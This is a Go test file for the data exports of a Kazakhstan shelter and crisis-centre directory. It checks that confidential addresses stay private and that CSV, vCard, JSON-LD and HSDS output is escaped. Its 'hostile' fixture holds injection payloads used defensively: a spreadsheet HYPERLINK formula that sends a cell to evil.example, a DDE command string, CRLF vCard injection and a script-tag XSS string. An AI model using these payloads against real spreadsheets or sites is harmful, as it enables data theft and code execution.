package directory

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"kzportal.example/portal/tools/internal/message"
	"kzportal.example/portal/tools/internal/record"
	"kzportal.example/portal/tools/internal/source"
)

var root = filepath.Join("..", "..", "..")

// now is a fixed day, so that these tests do not start failing as time passes.
var now = time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)

// build reads the shipped records plus the fixtures in testdata, requires them to pass the
// checks, and builds the directory data from them.
func build(t *testing.T) (*Data, []*record.Record) {
	t.Helper()
	regions, err := record.LoadRegions(root)
	if err != nil {
		t.Fatal(err)
	}
	sources, probs := source.Load(root)
	recs, ps := record.Load(root)
	probs = append(probs, ps...)
	files, _ := filepath.Glob("testdata/*.md")
	for _, f := range files {
		src, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		r, ps := record.Parse("content/shelters/records/"+filepath.Base(f), src)
		probs = append(probs, ps...)
		recs = append(recs, r)
	}
	probs = append(probs, record.Check(recs, regions, record.Options{Now: now, Sources: sources})...)
	if errs := probs.Errors(); len(errs) > 0 {
		t.Fatal(errs)
	}
	cat, ps := message.Load(root, record.Languages)
	if len(ps) > 0 {
		t.Fatal(ps)
	}
	return Build(recs, regions, sources, now, cat.T), recs
}

// TestNothingDropped: every centre appears once in the order and on its region's page, on
// one filter page per group it serves (in its region and countrywide); every line is among
// the lines; every region has its page, entries or not; the HSDS export and the CSV of every
// language hold every entry.
func TestNothingDropped(t *testing.T) {
	d, recs := build(t)
	if len(d.Order)+len(d.Lines) != len(recs) || len(d.Entries) != len(recs) {
		t.Fatalf("order %d + lines %d, by id %d, want %d", len(d.Order), len(d.Lines), len(d.Entries), len(recs))
	}
	if len(d.Lines) != 2 || len(d.Regions) != 20 {
		t.Errorf("%d lines, %d regions", len(d.Lines), len(d.Regions))
	}
	paths := map[string]bool{}
	for _, l := range d.Listings {
		if paths[l.Path] {
			t.Errorf("two listings at %s", l.Path)
		}
		paths[l.Path] = true
		if l.Page == 1 {
			var all []string
			for _, m := range d.Listings {
				if m.Base == l.Base {
					all = append(all, m.Chunk...)
				}
			}
			if !slices.Equal(all, l.IDs) || len(l.Chunk) > PerPage {
				t.Errorf("%s: its pages list %d entries, the list has %d", l.Base, len(all), len(l.IDs))
			}
		}
	}
	onRegion := map[string]int{}
	onFilter := map[string]int{}
	onGroup := map[string]int{}
	for _, rp := range d.Regions {
		if !paths["regions/"+rp.Slug] {
			t.Errorf("region %s has no page", rp.Code)
		}
		for _, id := range rp.IDs {
			onRegion[id]++
			if d.Entries[id].Region != rp.Code {
				t.Errorf("%s listed on %s", id, rp.Code)
			}
		}
		for _, g := range rp.Groups {
			for _, id := range g.IDs {
				onFilter[id+"/"+g.Group]++
			}
		}
	}
	for _, g := range d.Groups {
		for _, id := range g.IDs {
			onGroup[id+"/"+g.Group]++
		}
	}
	for _, r := range recs {
		want := 1
		if r.Kind == "line" {
			want = 0
			if !slices.Contains(d.Lines, r.ID) {
				t.Errorf("line %s is not among the lines", r.ID)
			}
		}
		if onRegion[r.ID] != want {
			t.Errorf("%s is on %d region pages, want %d", r.ID, onRegion[r.ID], want)
		}
		for _, g := range r.Serves {
			if onFilter[r.ID+"/"+g] != 1 || onGroup[r.ID+"/"+g] != 1 {
				t.Errorf("%s: on %d region filter and %d countrywide pages for %s, want 1 and 1", r.ID, onFilter[r.ID+"/"+g], onGroup[r.ID+"/"+g], g)
			}
		}
	}
	for _, lang := range record.Languages {
		b, err := d.HSDS(lang)
		if err != nil {
			t.Fatal(err)
		}
		var services []map[string]any
		if err := json.Unmarshal(b, &services); err != nil {
			t.Fatal(err)
		}
		if len(services) != len(recs) {
			t.Errorf("%s: HSDS has %d services, want %d", lang, len(services), len(recs))
		}
		c, err := d.CSV(lang)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(c)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(recs)+1 {
			t.Errorf("%s: CSV has %d rows, want %d and a header", lang, len(rows)-1, len(recs))
		}
	}
}

// TestTitles: an entry whose name is not published is called what it is, numbered where its
// region has more than one; a named one keeps its name.
func TestTitles(t *testing.T) {
	d, _ := build(t)
	for id, want := range map[string]string{
		"crisis-centre-akmola":      "Crisis centre for victims of human trafficking: Akmola Region",
		"crisis-centre-turkistan-2": "Crisis centre for victims of human trafficking: Turkistan Region (2 of 2)",
		"line-111":                  "111 contact centre for family, women's and children's rights",
		"test-public":               "Test shelter",
	} {
		if got := d.Entries[id].Title["en"]; got != want {
			t.Errorf("%s: %q, want %q", id, got, want)
		}
	}
	if got := d.Entries["crisis-centre-turkistan-1"].Title["ru"]; got != "Кризисный центр для жертв торговли людьми: Туркестанская область (1 из 2)" {
		t.Errorf("ru title %q", got)
	}
}

// TestRegionOrder: each language lists the regions by their names in that language.
func TestRegionOrder(t *testing.T) {
	d, _ := build(t)
	for lang, first := range map[string][]string{
		"kk": {"KZ-10", "KZ-11", "KZ-15"},          // Абай, Ақмола, Ақтөбе
		"ru": {"KZ-10", "KZ-11", "KZ-15", "KZ-19"}, // Абайская, Акмолинская, Актюбинская, Алматинская
		"en": {"KZ-10", "KZ-11", "KZ-15", "KZ-75"}, // Abai, Akmola, Aktobe, Almaty
	} {
		order := d.RegionOrder[lang]
		if len(order) != 20 || !slices.Equal(order[:len(first)], first) {
			t.Errorf("%s: %v", lang, order)
		}
		for i := 1; i < len(order); i++ {
			if a, b := d.Region[order[i-1]].Name[lang], d.Region[order[i]].Name[lang]; strings.ToLower(a) > strings.ToLower(b) && lang == "en" {
				t.Errorf("en: %s before %s", a, b)
			}
		}
	}
}

// TestHSDSValidates checks every service of the HSDS export, in every language, against the
// official HSDS 3.0 JSON Schema (committed in testdata/hsds-3.0, with its licence).
func TestHSDSValidates(t *testing.T) {
	schemaFile := filepath.Join("testdata", "hsds-3.0", "compiled", "service_with_definitions.json")
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	schema, err := c.Compile(schemaFile)
	if err != nil {
		t.Fatal(err)
	}
	// The schema must reject what HSDS does not allow, or this test proves nothing.
	for _, bad := range []string{`{"id": "not-a-uuid", "name": "x", "status": "active"}`,
		`{"id": "6f1d4a52-8c1e-4b7a-9a55-3b0e2f6c9d10", "name": "x", "status": "open"}`} {
		v, _ := jsonschema.UnmarshalJSON(strings.NewReader(bad))
		if schema.Validate(v) == nil {
			t.Errorf("the schema accepts %s", bad)
		}
	}
	d, _ := build(t)
	for _, lang := range record.Languages {
		b, _ := d.HSDS(lang)
		services, err := jsonschema.UnmarshalJSON(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		for i, svc := range services.([]any) {
			if err := schema.Validate(svc); err != nil {
				t.Errorf("%s: service %d (%s): %v", lang, i, d.all()[i], err)
			}
		}
	}
}

// TestConfidentialAddress: a shelter whose address may be published has it in every export;
// no other shelter has any location or address anywhere.
func TestConfidentialAddress(t *testing.T) {
	d, _ := build(t)
	for _, lang := range record.Languages {
		hsds, _ := d.HSDS(lang)
		csvb, _ := d.CSV(lang)
		data := dataJSON(t, d)
		for name, b := range map[string][]byte{"HSDS": hsds, "CSV": csvb, "data": data} {
			if n := strings.Count(string(b), "PUBLIC-STREET-1"); n == 0 {
				t.Errorf("%s %s: the public address is missing", lang, name)
			}
		}
		var services []map[string]any
		json.Unmarshal(hsds, &services)
		for i, svc := range services {
			id := d.all()[i]
			_, hasLocation := svc["service_at_locations"]
			if hasLocation != d.Entries[id].AddressPublic {
				t.Errorf("%s: %s has a location: %v, address public: %v", lang, id, hasLocation, d.Entries[id].AddressPublic)
			}
		}
		for _, id := range d.all() {
			e := d.Entries[id]
			hasAddr := false
			if ld, ok := e.JSONLD[lang].(map[string]any); ok {
				_, hasAddr = ld["address"]
			}
			vcard := string(d.VCard(id, lang))
			if e.AddressPublic != hasAddr || e.AddressPublic != strings.Contains(vcard, "ADR") {
				t.Errorf("%s: %s: JSON-LD address %v, vCard ADR %v, address public %v", lang, id, hasAddr, strings.Contains(vcard, "ADR"), e.AddressPublic)
			}
		}
	}
}

// TestListingsSplit: a long list is split in screen pages of PerPage, the first a section,
// the next ones pages under it.
func TestListingsSplit(t *testing.T) {
	var ids []string
	for i := range 2*PerPage + 3 {
		ids = append(ids, fmt.Sprint(i))
	}
	ls := listings(Listing{Path: "regions/kz-75", Layout: "region", IDs: ids, Print: true})
	if len(ls) != 3 || ls[0].Kind != "section" || ls[1].Path != "regions/kz-75/2" || ls[2].Kind != "page" ||
		len(ls[2].Chunk) != 3 || ls[1].Print || !ls[0].Print || ls[2].Pages != 3 || ls[2].Base != "regions/kz-75" {
		t.Errorf("%+v %+v %+v", ls[0], ls[1], ls[2])
	}
	// A region without entries still has its page, which says so.
	if empty := listings(Listing{Path: "regions/kz-23", IDs: []string{}}); len(empty) != 1 || empty[0].Pages != 1 || len(empty[0].Chunk) != 0 {
		t.Errorf("empty list: %+v", empty)
	}
}

func TestHoursLinksAndVCard(t *testing.T) {
	d, _ := build(t)
	e := d.Entries["test-public"]
	want := []Span{{From: "mo", To: "fr", Open: "09:00", Close: "18:00"}, {From: "sa", Open: "10:00", Close: "14:00"}}
	if !slices.Equal(e.PhoneLinks[0].Hours, want) || e.PhoneLinks[0].Always {
		t.Errorf("phone hours %v, want %v", e.PhoneLinks[0].Hours, want)
	}
	if l := e.PhoneLinks[1]; l.Hours != nil || !l.Always {
		t.Errorf("a 24/7 phone: %+v", l)
	}
	if l := e.PhoneLinks[0]; l.Tel != "tel:+77172123456" || l.SMS != "sms:+77172123456" ||
		l.WhatsApp != "https://wa.me/77172123456" || l.Telegram != "https://t.me/+77172123456" {
		t.Errorf("links %+v", l)
	}
	if l := d.Entries["line-111"].PhoneLinks[0]; l.Tel != "tel:111" || !l.Text || l.SMS != "" {
		t.Errorf("111: %+v (text messages by an unnamed channel, never sms:)", l)
	}
	if e := d.Entries["crisis-centre-akmola"]; e.VCard || len(e.PhoneLinks) != 0 || e.JSONLD["en"] != nil {
		t.Errorf("an entry without phone or name: vCard %v, links %v, JSON-LD %v", e.VCard, e.PhoneLinks, e.JSONLD)
	}
	v := string(d.VCard("test-public", "en"))
	for _, line := range []string{"BEGIN:VCARD\r\n", "FN:Test shelter\r\n", "TEL;TYPE=VOICE:+77172123456\r\n", "EMAIL:test@example.org\r\n",
		"ADR;TYPE=WORK:;;PUBLIC-STREET-1;Astana;Astana;;KZ\r\n", "END:VCARD\r\n"} {
		if !strings.Contains(v, line) {
			t.Errorf("vCard lacks %q:\n%s", line, v)
		}
	}
}

// TestVCardNote: a vCard's note says how its entry is known in the vCard's language, as the
// site says it, and names no source by its key.
func TestVCardNote(t *testing.T) {
	d, _ := build(t)
	tests := []struct{ id, lang, want string }{
		{"test-public", "en", "NOTE:Checked by phone on "},
		{"test-public", "ru", "NOTE:Проверено по телефону "},
		{"test-public", "kk", "NOTE:Телефон арқылы "},
		{"line-111", "en", "NOTE:Taken from a published source (as of "},
		{"line-111", "ru", "NOTE:Взято из опубликованного источника (по состоянию на "},
		{"line-111", "kk", "NOTE:Жарияланған дереккөзден алынған ("},
	}
	for _, tt := range tests {
		v := string(d.VCard(tt.id, tt.lang))
		if !strings.Contains(v, tt.want) {
			t.Errorf("%s %s: vCard lacks %q:\n%s", tt.id, tt.lang, tt.want, v)
		}
		for _, key := range d.Entries[tt.id].Sources {
			if strings.Contains(v, key) {
				t.Errorf("%s %s: vCard names the source key %q:\n%s", tt.id, tt.lang, key, v)
			}
		}
	}
}

// TestCacheSameData: building again with a cache, after one record changed, gives the same
// data as building afresh.
func TestCacheSameData(t *testing.T) {
	_, recs := build(t)
	regions, _ := record.LoadRegions(root)
	sources, _ := source.Load(root)
	cat, _ := message.Load(root, record.Languages)
	c := &Cache{}
	dataJSON(t, BuildCached(c, recs, regions, sources, now, cat.T)) // the entries as JSON kept
	for i, r := range recs {
		if r.Description != nil {
			edited := *r
			edited.Description = record.Text{"kk": "Өзгертілді.", "ru": "Изменено.", "en": "Changed."}
			recs = slices.Clone(recs)
			recs[i] = &edited
			break
		}
	}
	cached := dataJSON(t, BuildCached(c, recs, regions, sources, now, cat.T))
	fresh := dataJSON(t, Build(recs, regions, sources, now, cat.T))
	if !bytes.Equal(cached, fresh) || !bytes.Contains(fresh, []byte("Changed.")) {
		t.Error("the data built with the cache differ from the data built afresh")
	}
}

// dataJSON is all that d.JSON writes, the entries in id order after the index.
func dataJSON(t *testing.T, d *Data) []byte {
	t.Helper()
	index, entries, err := d.JSON()
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range slices.Sorted(maps.Keys(entries)) {
		index = append(append(index, '\n'), entries[id]...)
	}
	return index
}

// hostile is an entry whose texts try to break out of every export: formulas for a
// spreadsheet, a carriage return and a line feed that would start a vCard property of their
// own, and markup that would end a script element. check refuses the control characters;
// the exports must be safe without that check.
const hostile = `---
id: test-hostile
kind: centre
sample: true
status: open
region: KZ-71
name: {kk: "=HYPERLINK(\"https://evil.example/?\"&A1)", ru: "@SUM(1+1)", en: "X\rTEL:+19005550100\nEMAIL:a@evil.example; b, c\\d"}
organization: {kk: "+cmd|' /C calc'!A0", ru: "-2+3", en: "</script><script>alert(1)</script>"}
city: {kk: "\tTab", ru: "\rCR", en: "Astana\u2028"}
description: {kk: "Сынақ.", ru: "Тест.", en: "Test."}
serves: [men]
services: [legal]
phones:
  - number: "+77172123456"
    label: {kk: "=1+1", ru: "=1+1", en: "=1+1"}
    hours: "24/7"
email: "test@example.org"
hours: "24/7"
languages: [kk]
address_public: true
address: {kk: "-1", ru: "@A1", en: "Street 1;\r\nTEL:+19005550100"}
directions: {kk: "Аялдама", ru: "Остановка", en: "</script>"}
called: {date: "2026-10-01", by: "=cmd"}
---
`

// TestExportsEscape: no cell of the CSV starts with what a spreadsheet reads as a formula
// (OWASP: =, +, -, @, tab, carriage return), phones included; every vCard value has its
// backslashes, commas, semicolons and line breaks (CR too) escaped, so that no value starts
// a property; JSON-LD and HSDS hold no markup a script element would end at, nor a raw line
// separator.
func TestExportsEscape(t *testing.T) {
	regions, _ := record.LoadRegions(root)
	sources, _ := source.Load(root)
	cat, _ := message.Load(root, record.Languages)
	r, _ := record.Parse("content/shelters/records/test-hostile.md", []byte(hostile))
	if r == nil {
		t.Fatal("the hostile record does not parse")
	}
	recs := []*record.Record{r}
	record.Check(recs, regions, record.Options{Now: now, Sources: sources}) // normalises the phones
	d := Build(recs, regions, sources, now, cat.T)
	for _, lang := range record.Languages {
		b, err := d.CSV(lang)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var phones string
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: CSV column %s starts a formula: %q", lang, CSVHeader[i], cell)
				}
				if CSVHeader[i] == "phones" {
					phones = cell
				}
			}
		}
		if phones != "'+77172123456 (=1+1)" {
			t.Errorf("%s: phones cell %q, want '+77172123456 (=1+1)", lang, phones)
		}

		v := string(d.VCard("test-hostile", lang))
		for _, l := range strings.Split(strings.TrimSuffix(v, "\r\n"), "\r\n") {
			if strings.ContainsAny(l, "\r\n") {
				t.Errorf("%s: a vCard line holds a line break: %q", lang, l)
			}
			if strings.HasPrefix(l, "TEL") && l != "TEL;TYPE=VOICE:+77172123456" || strings.HasPrefix(l, "EMAIL") && l != "EMAIL:test@example.org" {
				t.Errorf("%s: a value started a property of its own: %q", lang, l)
			}
		}
		if lang == "en" {
			for _, want := range []string{`FN:X\nTEL:+19005550100\nEMAIL:a@evil.example\; b\, c\\d`, `Street 1\;\nTEL:+19005550100`} {
				if !strings.Contains(v, want) {
					t.Errorf("vCard lacks %s:\n%s", want, v)
				}
			}
		}

		hsds, err := d.HSDS(lang)
		if err != nil {
			t.Fatal(err)
		}
		for name, b := range map[string][]byte{"HSDS": hsds, "JSON-LD": []byte(d.Entries["test-hostile"].JSONLDText[lang])} {
			if len(b) == 0 {
				t.Errorf("%s: no %s", lang, name)
			}
			if bytes.ContainsAny(b, "<>\u2028\r") {
				t.Errorf("%s: %s holds markup or a raw line break:\n%s", lang, name, b)
			}
		}
	}
}
